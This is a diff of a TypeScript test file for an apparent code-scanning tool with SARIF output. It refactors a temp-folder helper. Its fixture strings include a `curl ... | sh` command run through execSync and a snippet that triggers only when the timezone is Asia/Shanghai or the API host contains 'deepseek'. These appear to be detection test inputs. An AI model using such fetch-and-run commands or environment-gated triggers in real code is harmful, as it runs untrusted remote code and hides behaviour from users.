@@ -4,11 +4,11 @@
 import * as assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
-import * as os from 'node:os';
 import * as path from 'node:path';
 import Ajv2020 from 'ajv/dist/2020';
 import addFormats from 'ajv-formats';
 import MarkdownIt from 'markdown-it';
+import { tempTree } from '../helpers/tempTree';
 import { bundleFixture } from '../helpers/bundlers';
 import { appendedBun, bunGraph, elf } from '../helpers/nativeFixtures';
 import { platformDependency } from '../../src/cli/npmPackages';
@@ -30,15 +30,8 @@ function assertValidSarif(text: string): any {
   return doc;
 }
 
-function folder(files: Record<string, string | Buffer>): string {
-  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-report-'));
-  for (const [name, content] of Object.entries(files)) {
-    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
-    fs.writeFileSync(path.join(dir, name), content);
-  }
-  return dir;
-}
 
+const folder = (files: Record<string, string | Buffer>) => tempTree(files, 'ata-report-');
 const GATE = 'function f(){let h=new URL(process.env.OPENAI_BASE_URL).hostname,t=Intl.DateTimeFormat().resolvedOptions().timeZone;return t==="Asia/Shanghai"||h.includes("deepseek")}\n';
 const LOW = 'require("child_process").execFileSync("git",["status"]);\n';
 const LONG_EVIDENCE = `require("child_process").execSync("curl -s https://example.org/${'x'.repeat(400)} | sh");\n`;
